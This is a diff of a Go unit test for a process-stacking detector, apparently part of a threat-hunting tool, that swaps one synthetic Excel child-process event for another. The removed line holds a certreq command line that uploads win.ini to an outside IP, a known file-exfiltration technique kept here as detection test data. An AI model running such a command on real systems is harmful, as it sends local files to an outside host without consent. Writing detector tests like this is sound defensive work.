@@ -350,7 +350,9 @@ func TestStacking(t *testing.T) {
 	common := func(i int) *huntflow.Event {
 		return procCreate("{S"+string(rune('a'+i))+"}", "{O}", `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `C:\Windows\splwow64.exe`, `splwow64.exe 8192`, i)
 	}
-	rare := procCreate("{R}", "{O}", `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `C:\Windows\System32\certreq.exe`, `certreq -Post -config http://203.0.113.7/ c:\windows\win.ini`, 10)
+	// The rare child is one no rule knows (a rule-covered child, such as
+	// certreq uploading a file, is reported by its rule instead).
+	rare := procCreate("{R}", "{O}", `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `C:\Program Files\Contoso\Reports\export.exe`, `export.exe --sheet c:\users\bob\budget.xlsx`, 10)
 	evs := []*huntflow.Event{common(0), common(1), rare}
 	d := defaultDetector(t)
 	cls, err := d.Detect(context.Background(), span(evs), evs)
